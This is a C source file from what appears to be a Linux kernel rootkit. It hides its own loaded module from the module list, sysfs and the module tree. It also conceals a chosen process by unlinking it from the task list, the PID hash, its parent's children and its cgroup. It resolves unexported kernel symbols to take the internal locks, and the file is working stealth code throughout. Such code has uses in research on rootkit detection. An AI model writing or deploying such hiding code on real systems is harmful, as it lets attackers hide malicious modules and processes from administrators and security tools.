// SPDX-License-Identifier: GPL-2.0-only
/* Itself, and a process, out of the structures that show them. */
#include <linux/cgroup-defs.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#include "rootkit.h"

static struct task_struct *task;

/* Not exported.  Their locks are taken: what is shown is hiding, not a broken list. */
static struct mutex *modules_lock;
static struct list_head *modules;
static void (*tree_remove)(struct module *mod);
static void (*tree_insert)(struct module *mod);
static rwlock_t *tasks_lock;
static spinlock_t *cgroups_lock;

/* ---- itself ---- */

static int leave_list(void)
{
	mutex_lock(modules_lock);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(modules_lock);
	return 0;
}

static void join_list(void)
{
	mutex_lock(modules_lock);
	list_add_rcu(&THIS_MODULE->list, modules);
	mutex_unlock(modules_lock);
}

static int leave_sysfs(void)
{
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

static void join_sysfs(void)
{
	int r = kobject_add(&THIS_MODULE->mkobj.kobj, NULL, "%s", THIS_MODULE->name);

	WARN_ON(r);
}

static int leave_tree(void)
{
	mutex_lock(modules_lock);
	tree_remove(THIS_MODULE);
	mutex_unlock(modules_lock);
	return 0;
}

static void join_tree(void)
{
	mutex_lock(modules_lock);
	tree_insert(THIS_MODULE);
	mutex_unlock(modules_lock);
}

/* ---- a process ---- */

int hide_choose(pid_t pid)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	hide_forget();
	task = t;
	return 0;
}

void hide_forget(void)
{
	if (task)
		put_task_struct(task);
	task = NULL;
}

struct task_struct *hide_chosen(void)
{
	return task;
}

static int leave_tasks(void)
{
	if (!task)
		return -ESRCH;
	write_lock_irq(tasks_lock);
	list_del_rcu(&task->tasks);
	write_unlock_irq(tasks_lock);
	return 0;
}

static void join_tasks(void)
{
	write_lock_irq(tasks_lock);
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irq(tasks_lock);
}

static int leave_pid(void)
{
	if (!task)
		return -ESRCH;
	write_lock_irq(tasks_lock);
	hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
	write_unlock_irq(tasks_lock);
	return 0;
}

static void join_pid(void)
{
	write_lock_irq(tasks_lock);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID], &task->thread_pid->tasks[PIDTYPE_PID]);
	write_unlock_irq(tasks_lock);
}

static int leave_parent(void)
{
	if (!task)
		return -ESRCH;
	write_lock_irq(tasks_lock);
	list_del(&task->sibling);
	write_unlock_irq(tasks_lock);
	return 0;
}

static void join_parent(void)
{
	write_lock_irq(tasks_lock);
	list_add_tail(&task->sibling, &task->real_parent->children);
	write_unlock_irq(tasks_lock);
}

static int leave_cgroup(void)
{
	if (!task)
		return -ESRCH;
	spin_lock_irq(cgroups_lock);
	list_del(&task->cg_list);
	spin_unlock_irq(cgroups_lock);
	return 0;
}

static void join_cgroup(void)
{
	spin_lock_irq(cgroups_lock);
	list_add_tail(&task->cg_list, &rcu_dereference_raw(task->cgroups)->tasks);
	spin_unlock_irq(cgroups_lock);
}

struct trick hide_tricks[] = {
	{ "module-list", leave_list, join_list },
	{ "module-sysfs", leave_sysfs, join_sysfs },
	{ "module-tree", leave_tree, join_tree },
	{ "task-list", leave_tasks, join_tasks },
	{ "task-pid", leave_pid, join_pid },
	{ "task-parent", leave_parent, join_parent },
	{ "task-cgroup", leave_cgroup, join_cgroup },
	{ }
};

int hide_init(void)
{
	modules_lock = rootkit_symbol("module_mutex");
	modules = rootkit_symbol("modules");
	tree_remove = rootkit_symbol("mod_tree_remove");
	tree_insert = rootkit_symbol("mod_tree_insert");
	tasks_lock = rootkit_symbol("tasklist_lock");
	cgroups_lock = rootkit_symbol("css_set_lock");
	return modules_lock && modules && tree_remove && tree_insert && tasks_lock &&
	       cgroups_lock ? 0 : -ENOENT;
}
